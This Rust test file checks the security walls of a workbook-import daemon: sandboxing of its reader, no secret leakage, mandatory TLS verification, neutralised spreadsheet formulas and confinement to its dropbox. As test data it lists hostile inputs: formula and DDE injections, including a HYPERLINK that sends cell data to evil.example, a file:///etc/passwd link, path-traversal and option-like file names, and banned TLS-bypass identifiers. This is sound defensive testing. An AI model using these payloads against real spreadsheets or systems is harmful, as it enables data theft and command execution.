//! What a stranger, a hostile workbook and a curious neighbour do not get: each wall is run against.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine;
use calamine::{Data, Reader, open_workbook_auto};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use seccompiler::{SeccompAction, SeccompFilter, apply_filter};
use serde_json::{Value, json};

use crate::daemon::{accounts_file, until};
use crate::reader::program;
use crate::service::Service;
use crate::templates::package;
use crate::world::{Cell, SECRET_VARIABLE, World, accounts, block_on, workbook};

// The process that reads.

/// Does work on a kernel that knows none of these calls; so do all programs that it starts.
pub fn on_a_kernel_without<T: Send>(calls: &[i64], work: impl FnOnce() -> T + Send) -> T {
    std::thread::scope(|scope| {
        let worker = scope.spawn(|| {
            let rules = calls.iter().map(|call| (*call, Vec::new())).collect();
            let missing = SeccompAction::Errno(libc::ENOSYS.unsigned_abs());
            let arch = std::env::consts::ARCH.try_into().unwrap();
            let filter = SeccompFilter::new(rules, SeccompAction::Allow, missing, arch).unwrap();
            let program: seccompiler::BpfProgram = filter.try_into().unwrap();
            apply_filter(&program).unwrap();
            work()
        });
        worker.join().unwrap()
    })
}

fn finding(doctor: &str, what: &str) -> Value {
    let report: Value = serde_json::from_str(doctor).unwrap();
    report["findings"].as_array().unwrap().iter().find(|finding| finding["what"] == what).unwrap().clone()
}

#[test]
fn the_reader_opens_no_file_no_socket_and_starts_no_program() {
    // The real child tries all of it; where both walls are missing the next test sees it succeed.
    let walls = block_on(ddu::io::workbook::try_walls(program(), &std::env::temp_dir())).unwrap();
    assert!(walls.landlock && walls.seccomp && walls.gaps.is_empty(), "{walls:?}");
    let world = World::new();
    let reader = finding(&world.ddu(&["doctor", "--json"]).out, "reader");
    assert_eq!(reader["good"], true);
    assert!(reader["found"].as_str().unwrap().starts_with("held by Landlock and seccomp"), "{reader}");
}

#[test]
fn on_a_kernel_without_walls_workbooks_are_read_and_the_operator_is_told_once() {
    let world = World::new();
    let landlock = [libc::SYS_landlock_create_ruleset, libc::SYS_landlock_restrict_self];
    on_a_kernel_without(&landlock, || {
        let reader = finding(&world.ddu(&["doctor", "--json"]).out, "reader");
        assert_eq!(reader["good"], true, "{reader}");
        assert!(reader["found"].as_str().unwrap().contains("seccomp alone"), "{reader}");
    });
    on_a_kernel_without(&[libc::SYS_seccomp], || {
        let reader = finding(&world.ddu(&["doctor", "--json"]).out, "reader");
        assert_eq!(reader["good"], false, "{reader}");
        let found = reader["found"].as_str().unwrap();
        assert!(found.contains("Landlock alone") && found.contains("could open a socket;"), "{reader}");
    });
    on_a_kernel_without(&[&landlock[..], &[libc::SYS_seccomp]].concat(), || {
        let reader = finding(&world.ddu(&["doctor", "--json"]).out, "reader");
        let all = "could open a socket, read another file, write another file, start a program";
        assert!(reader["good"] == false && reader["found"].as_str().unwrap().contains(all), "{reader}");
        let daemon = crate::daemon::running(&world);
        for from in [1, 4] {
            world.drop_bytes("accounts.xlsx", &accounts_file(from, 3));
            until(&world, "accounts", [u64::from(from) + 2, u64::from(from) + 2, 0, 0]);
        }
        let log = daemon.log();
        assert_eq!(log.matches("the reader of workbooks is not walled in").count(), 1, "{log}");
    });
}

/// What the system tells of a running reader of this daemon, and all that it was started with.
struct SeenReader {
    status: String,
    command_line: Vec<u8>,
    environment: Vec<u8>,
}

/// Looks at a daemon's readers until one has raised its walls.
fn reader_of(daemon: u32) -> SeenReader {
    let begun = Instant::now();
    loop {
        assert!(begun.elapsed() < Duration::from_secs(60), "no reader was seen");
        let tasks = fs::read_dir(format!("/proc/{daemon}/task")).unwrap();
        for task in tasks.filter_map(Result::ok) {
            let children = fs::read_to_string(task.path().join("children")).unwrap_or_default();
            for child in children.split_whitespace() {
                let of = |what: &str| fs::read(Path::new("/proc").join(child).join(what)).unwrap_or_default();
                let status = String::from_utf8(of("status")).unwrap();
                let (command_line, environment) = (of("cmdline"), of("environ"));
                let is_reader = command_line.windows(13).any(|window| window == b"read-workbook");
                if is_reader && status.contains("Seccomp:\t2") {
                    return SeenReader { status, command_line, environment };
                }
            }
        }
        std::thread::yield_now();
    }
}

/// A text table that keeps its reader busy for a while.
fn many_accounts() -> Vec<u8> {
    let rows = (0..300_000).map(|n| format!("Account {n},{n:06}\n"));
    ["Account Name,Account Number\n".to_owned()].into_iter().chain(rows).collect::<String>().into_bytes()
}

// Secrets.

/// Every file below a folder, with what it holds.
fn files_below(root: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let (mut found, mut folders) = (Vec::new(), vec![root.to_owned()]);
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).unwrap().filter_map(Result::ok) {
            match entry.file_type().unwrap().is_dir() {
                true => folders.push(entry.path()),
                // What the daemon removes meanwhile holds nothing any more.
                false => found.push((entry.path(), fs::read(entry.path()).unwrap_or_default())),
            }
        }
    }
    found
}

fn get(page: SocketAddr, path: &str, authorization: &str) -> String {
    let mut stream = TcpStream::connect(page).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let head = format!("GET {path} HTTP/1.1\r\nHost: {page}\r\n{authorization}Connection: close\r\n\r\n");
    stream.write_all(head.as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

#[test]
fn planted_secrets_are_found_nowhere_but_where_they_were_planted() {
    // One of each kind of place, at the most talkative level; a part of a secret is enough to find it.
    let places = ["client_secret_file", "client_secret_credential", "client_secret_env"];
    let secret = "Pl4nted~Q8x/+=";
    let token = "T0kenPlanted-correct-horse";
    let signs = ["Pl4nted", "Q8x", "T0kenPlanted", "correct-horse"];
    for place in places {
        let world = World::new();
        let service = Service::start(&world, json!([]));
        let plant = |name: &str, text: &str| {
            let path = world.path().join("planted").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, text).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        };
        plant("secret", secret);
        plant("token", token);
        let mut target = service.target();
        target.as_object_mut().unwrap().remove("client_secret_env");
        target[place] = match place {
            "client_secret_file" => json!("./planted/secret"),
            "client_secret_credential" => json!("secret"),
            _ => json!(SECRET_VARIABLE),
        };
        let page = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let settings = json!({
            "target": target, "listen": page.to_string(), "listen_token_file": "./planted/token",
            "jobs_at_once": 2,
        });
        world.configure(settings);
        let started = |arguments: &[&str]| {
            let mut command = world.command(arguments);
            command.env_remove(SECRET_VARIABLE).env("RUST_LOG", "trace");
            match place {
                "client_secret_credential" => {
                    command.env("CREDENTIALS_DIRECTORY", world.path().join("planted"));
                }
                "client_secret_env" => drop(command.env(SECRET_VARIABLE, secret)),
                _ => {}
            }
            command
        };
        let mut told: Vec<(String, Vec<u8>)> = Vec::new();
        let daemon = world.start(started(&["run"]));
        let mut rows = accounts(1, 20);
        rows[3][0] = "x".repeat(161).into();
        world.drop_rows("accounts.xlsx", &rows);
        until(&world, "accounts", [20, 19, 1, 0]);
        world.drop_json("many.csv.json", json!({"target_entity": "accounts", "dry_run": true}));
        world.drop_bytes("many.csv", &many_accounts());
        let reader = reader_of(daemon.child.id());
        assert!(reader.status.contains("NoNewPrivs:\t1"), "{}", reader.status);
        assert!(reader.environment.is_empty(), "{:?}", String::from_utf8_lossy(&reader.environment));
        told.push(("the reader's arguments".to_owned(), reader.command_line));
        let own = fs::read(format!("/proc/{}/cmdline", daemon.child.id())).unwrap();
        told.push(("the daemon's arguments".to_owned(), own));
        for path in ["/", "/status.json", "/metrics", "/healthz"] {
            let turned_away = get(page, path, "Authorization: Bearer wrong\r\n");
            assert!(turned_away.starts_with("HTTP/1.1 401"), "{turned_away}");
            let answer = get(page, path, &format!("Authorization: Bearer {token}\r\n"));
            assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
            told.push((path.to_owned(), [turned_away, answer].concat().into_bytes()));
        }
        let lines = world.log_of("accounts");
        let job = lines[0]["job"].as_str().unwrap().to_owned();
        for arguments in [
            &["config", "check"][..],
            &["config", "check", "--json"],
            &["doctor"],
            &["doctor", "--json"],
            &["status", "--json"],
            &["show", &job],
            &["show", &job, "--json"],
            &["log", "--json"],
            &["quarantine", "show", "accounts", "--json"],
            &["run", "--once"],
        ] {
            let output = started(arguments).output().unwrap();
            told.push((format!("{arguments:?}"), [output.stdout, output.stderr].concat()));
        }
        // A server that refuses the secret is told about, and the secret is not.
        let mut service = service;
        service.restart(
            &world,
            json!([{"on": {"kind": "token", "every": 1}, "answer": {"status": 401, "code": "invalid_client"}}]),
        );
        let output = started(&["doctor"]).output().unwrap();
        told.push(("a refused secret".to_owned(), [output.stdout, output.stderr].concat()));
        drop(daemon);
        let log = fs::read_to_string(world.path().join("daemon.log")).unwrap();
        assert!(log.contains("TRACE") && log.contains("batch"), "nothing was logged at all");
        let planted = world.path().join("planted");
        for (path, bytes) in files_below(world.path()) {
            if !path.starts_with(&planted) {
                told.push((path.display().to_string(), bytes));
            }
        }
        for kept in ["/job.json", "/journal.jsonl", "/daemon.log", "/board.json"] {
            assert!(told.iter().any(|(what, _)| what.ends_with(kept)), "no {kept} was looked at");
        }
        for (what, bytes) in &told {
            for sign in signs {
                let found = bytes.windows(sign.len()).any(|window| window == sign.as_bytes());
                assert!(!found, "`{sign}` ({place}) stands in {what}");
            }
        }
    }
}

// The line to Dynamics.

/// A certificate for `localhost` that nobody vouches for, and its key; made for this test with openssl, worth nothing.
const OWN_CERTIFICATE: &str = "MIIBmjCCAUGgAwIBAgIULd+u8PMWdEFp0gnf69tozfac9CcwCgYIKoZIzj0EAwIwFDESMBAGA1UEAwwJbG9jYWxob3N0MCAXDTI2\
    MTEyNDE0NDc0OFoYDzIxMjYxMDMxMTQ0NzQ4WjAUMRIwEAYDVQQDDAlsb2NhbGhvc3QwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNC\
    AARMQ6rEsDNa2ZWM6YfM5OArnkDK/fxoE7xLvI/J2ruT0SvoBbG/VMU28zgUbdAtvNU3J0qcRGSg1ymUfCU2+867o28wbTAdBgNV\
    HQ4EFgQUjF5u1bRPycjjeyN/0p6J/y/jtA4wHwYDVR0jBBgwFoAUjF5u1bRPycjjeyN/0p6J/y/jtA4wDwYDVR0TAQH/BAUwAwEB\
    /zAaBgNVHREEEzARgglsb2NhbGhvc3SHBH8AAAEwCgYIKoZIzj0EAwIDRwAwRAIgC/jOlhKxPMJAV2ChgeeDnFm10I9Lg2l6trBK\
    09WAStECIFKveBi4Og+kc7wZHWDe6xRfCt/Vvov5hG1UpL7xW67t";
const OWN_KEY: &str = "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgaaYBw0Rvt0bQdH83lfKpvikePoNCsRa9It3bXU/dy/ChRANCAARM\
    Q6rEsDNa2ZWM6YfM5OArnkDK/fxoE7xLvI/J2ruT0SvoBbG/VMU28zgUbdAtvNU3J0qcRGSg1ymUfCU2+867";

#[test]
fn a_server_that_nobody_vouches_for_hears_nothing() {
    let der = |text: &str| base64::engine::general_purpose::STANDARD.decode(text).unwrap();
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![CertificateDer::from(der(OWN_CERTIFICATE))],
            PrivateKeyDer::from(PrivatePkcs8KeyDer::from(der(OWN_KEY))),
        )
        .unwrap();
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("https://localhost:{}", listener.local_addr().unwrap().port());
    let (heard, hears) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let connection = rustls::ServerConnection::new(Arc::clone(&config)).unwrap();
            let mut stream = rustls::StreamOwned::new(connection, stream.unwrap());
            let mut bytes = [0u8; 1_024];
            let read = stream.read(&mut bytes).map_err(|error| error.to_string());
            if heard.send(read).is_err() {
                return;
            }
        }
    });
    let target = json!({
        "kind": "dataverse", "url": url, "authority": url, "client_secret_env": SECRET_VARIABLE,
        "tenant_id": "11111111-2222-3333-4444-555555555555",
        "client_id": "66666666-7777-8888-9999-000000000000",
    });
    let world = World::with(json!({"target": target}));
    let mut command = world.command(&["run"]);
    command.env("NO_PROXY", "*").env_remove("SSL_CERT_FILE");
    let daemon = world.start(command);
    world.drop_bytes("accounts.xlsx", &accounts_file(1, 3));
    let told = || [world.status_text("accounts.xlsx"), daemon.log()].concat();
    world.wait_for("the reason", || told().contains("certificate").then_some(()));
    let first = hears.recv_timeout(Duration::from_secs(60)).unwrap();
    assert!(first.as_ref().is_err_and(|error| error.contains("alert")), "{first:?}");
    while let Ok(further) = hears.try_recv() {
        assert!(further.is_err(), "{further:?}");
    }
}

#[test]
fn no_setting_and_no_code_switches_the_verification_off() {
    for (key, value) in [("verify", json!(false)), ("insecure", json!(true)), ("danger", json!(true))] {
        let world = World::new();
        let mut target = json!({"kind": "dataverse", "url": "https://o.crm.dynamics.com", "tenant_id": "o.com",
            "client_id": "66666666-7777-8888-9999-000000000000", "client_secret_env": "S"});
        target[key] = value;
        world.configure(json!({"target": target}));
        let said = world.ddu(&["config", "check"]);
        assert!(said.code == 2 && said.out.contains("unknown key"), "{}{}", said.out, said.err);
    }
    let sources = files_below(&Path::new(env!("CARGO_MANIFEST_DIR")).join("src"));
    assert!(sources.len() > 100);
    for (path, bytes) in sources {
        let text = String::from_utf8(bytes).unwrap();
        for sign in ["danger_accept", "tls_danger", ".dangerous()", "ServerCertVerifier"] {
            assert!(!text.contains(sign), "`{sign}` in {}", path.display());
        }
    }
}

// What comes back to the sender.

#[test]
fn text_that_looks_like_a_formula_is_text_in_every_workbook_that_comes_back() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=cmd|'/c calc'!A1",
        "+cmd|'/c calc'!A1",
        "-2+3+cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'/c calc'!A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "{=1+1}",
        "'=1+1",
        "＝1+1",
        "DDE(\"cmd\";\"/c calc\")",
        "http://evil.example/",
        "file:///etc/passwd",
    ];
    let world = World::new();
    let mut rows: Vec<Vec<Cell>> = vec![row!["Account Name", "Description", "=1+1", "@x", "+y"]];
    for text in hostile {
        rows.push(row!["x".repeat(161), text, text, text, text]);
    }
    world.drop_json("accounts.xlsx.json", json!({"columns": {"=1+1": "", "@x": "", "+y": ""}}));
    world.drop_rows("accounts.xlsx", &rows);
    world.run_once(3);
    assert_eq!(world.counts("accounts"), [14, 0, 14, 0]);
    let exported = world.path().join("export.xlsx");
    assert_eq!(world.ddu(&["quarantine", "export", "accounts", "-o", exported.to_str().unwrap()]).code, 0);
    for path in [world.returned().pop().unwrap(), exported] {
        let mut book = open_workbook_auto(&path).unwrap();
        let mut found: BTreeSet<String> = BTreeSet::new();
        for sheet in book.sheet_names() {
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "{sheet}: {formulas:?}");
            for (_, _, cell) in book.worksheet_range(&sheet).unwrap().used_cells() {
                if let Data::String(text) = cell {
                    found
                        .insert(text.replace("_x000D_", "\r").replace("_x0009_", "\t").replace("\r\n", "\n"));
                }
            }
        }
        for text in hostile.iter().chain(&["=1+1", "@x", "+y"]) {
            assert!(found.contains(*text), "{text:?} is not among {found:#?}");
        }
        // Nothing of it is a link either: a click on a cell opens nothing.
        let mut zip = zip::ZipArchive::new(fs::File::open(&path).unwrap()).unwrap();
        for index in 0..zip.len() {
            let mut part = zip.by_index(index).unwrap();
            let mut text = String::new();
            part.read_to_string(&mut text).unwrap();
            assert!(!text.contains("<hyperlink") && !text.contains("TargetMode=\"External\""), "{text}");
        }
    }
}

// What reaches beyond the dropbox.

#[test]
fn no_name_link_or_path_of_a_sender_reaches_beyond_the_dropbox() {
    let world = World::new();
    let outside = world.path().join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("kept.xlsx"), accounts_file(1, 1)).unwrap();
    fs::write(outside.join("kept.json"), r#"{"target_entity": "accounts"}"#).unwrap();
    // A package whose parts climb, and settings that name places where tables and entities are meant.
    let accounts = workbook(&[("A", &[row!["NAME"], row!["Climber"]])]);
    for (name, part) in [("up.zip", "../../outside/part.xlsx"), ("root.zip", "/tmp/ddu-outside-part.xlsx")] {
        world.drop_bytes(name, &package(&[("Accounts", part)], &[(part, accounts.clone())]));
    }
    for (name, settings) in [
        ("a.xlsx", json!({"target_entity": "accounts", "table_name": "../../outside/table"})),
        ("b.xlsx", json!({"target_entity": "../accounts"})),
        ("c.xlsx", json!({"target_entity": "accounts", "sheet": "../../outside"})),
        ("..xlsx", json!({"target_entity": "accounts"})),
        ("-rf.xlsx", json!({"target_entity": "accounts"})),
        ("%2e%2e%2foutside%2fx.xlsx", json!({"target_entity": "accounts"})),
        ("..\\..\\outside\\x.xlsx", json!({"target_entity": "accounts"})),
    ] {
        world.drop_json(&format!("{name}.json"), settings);
        world.drop_bytes(name, &workbook(&[("A", &[row!["Account Name"], row![name]])]));
    }
    // One settings file that speaks of names outside.
    world.drop_json("all.json", json!({"../outside/kept.xlsx": {"target_entity": "accounts"}}));
    // Links to a workbook, to settings and to a folder.
    let link =
        |to: &str, name: &str| std::os::unix::fs::symlink(outside.join(to), world.dropbox().join(name));
    link("kept.xlsx", "linked.xlsx").unwrap();
    link("kept.json", "settings.xlsx.json").unwrap();
    link("", "folder.xlsx").unwrap();
    let before = files_below(&outside);
    world.run_once(3);
    assert_eq!(files_below(&outside), before, "the folder outside was touched");
    assert!(!Path::new("/tmp/ddu-outside-part.xlsx").exists());
    let tops: BTreeSet<String> = fs::read_dir(world.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    let ours = ["checkpoints", "config.json", "dropbox", "lakehouse", "outside", "sandbox"];
    assert!(tops.iter().all(|name| ours.contains(&name.as_str())), "{tops:?}");
    for name in ["linked.xlsx", "folder.xlsx"] {
        assert!(world.dropbox().join(name).is_symlink(), "{name} stays where it is");
    }
    let names: Vec<String> =
        world.target("accounts").iter().map(|row| row["name"].as_str().unwrap().to_owned()).collect();
    assert!(!names.contains(&"Account 1".to_owned()), "a link was followed: {names:?}");
    assert!(names.contains(&"-rf.xlsx".to_owned()), "{names:?}");
}
